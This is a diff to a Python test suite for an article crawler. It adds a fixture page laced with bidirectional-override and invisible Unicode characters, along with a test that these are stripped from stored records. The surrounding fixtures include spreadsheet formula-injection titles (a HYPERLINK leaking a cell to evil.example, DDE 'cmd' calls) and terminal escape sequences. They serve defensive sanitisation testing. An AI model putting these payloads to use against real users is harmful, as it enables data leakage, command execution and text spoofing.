@@ -47,6 +47,26 @@ def escape_page(slug: str) -> bytes:
     return page.encode()
 
 
+# Bidirectional overrides and isolates, LRM/RLM, zero-width and tag characters: invisible, but they reorder or hide
+# what a record shows (a title that displays "...Вас уволили" reversed, text only a language model reads).
+SPOOF = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\ufeff\U000e0041\U000e007f"
+SPOOF_CHARS = re.compile(f"[{SPOOF}\u200c\u200d]")
+PERSIAN = "می\u200cخواهم"  # "I want": its ZWNJ keeps the two letters apart, as Persian and Tajik write it
+FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # one emoji, joined by its ZWJs
+
+
+def spoof_page(slug: str) -> bytes:
+    """An article whose title, lead, author, tags and paragraphs carry bidi controls and invisible characters, next to
+    a Persian word with its ZWNJ and an emoji with its ZWJs (which must stay)."""
+    title = f"Совещание{SPOOF} по\u200c энергетике \u202eилидоваву{PERSIAN}"
+    page = article(slug, title=title).replace(
+        "<title>", f"<meta name='description' content='Лид{SPOOF} статьи {FAMILY}'>"
+                   f"<meta name='keywords' content='энергетика\u202e, ГЭС\u2066'><title>")
+    page = page.replace('"datePublished"', '"author": {"@type": "Person", "name": "Иван\\u202e Петров"}, '
+                                           '"datePublished"')
+    return page.replace(f"<p>{PARAGRAPHS[0]}", f"<p>\u202e{PARAGRAPHS[0]}\u2069 {PERSIAN} {FAMILY}").encode()
+
+
 # Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
 FORMULAS = {
     "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
@@ -54,7 +74,8 @@ FORMULAS = {
     "formula-minus": "-2+3+cmd|' /C calc'!A0 Совещание",
     "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Совещание",
 }
-PAGES = {"escape-codes": escape_page("escape-codes"), "plain-page": article("plain-page").encode(),
+PAGES = {"escape-codes": escape_page("escape-codes"), "bidi-spoof": spoof_page("bidi-spoof"),
+         "plain-page": article("plain-page").encode(),
          **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
 
 
@@ -129,6 +150,17 @@ def test_no_c0_control_character_of_a_page_is_stored(crawled: Crawled) -> None:
     assert record["title"] == f"Совещание[2J[1A[K]52;c;cm0gLXJmIH4={CSI}31m по энергетике"
     assert record["paragraphs"][0].endswith(PARAGRAPHS[0])
     assert record["lead"].startswith("Лид") and record["authors"] and record["tags"]
+
+
+def test_no_bidi_control_or_invisible_character_of_a_page_is_stored(crawled: Crawled) -> None:
+    record = crawled.records()["bidi-spoof"]
+    found = {text[:80] for text in strings(record)
+             if SPOOF_CHARS.search(text.replace(PERSIAN, "").replace(FAMILY, ""))}
+    assert not found
+    assert record["title"] == f"Совещание по энергетике илидоваву{PERSIAN}"
+    assert record["authors"] == ["Иван Петров"]
+    assert record["lead"] == f"Лид статьи {FAMILY}"
+    assert record["paragraphs"][0] == f"{PARAGRAPHS[0]} {PERSIAN} {FAMILY}"
 
 
 def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Crawled) -> None:
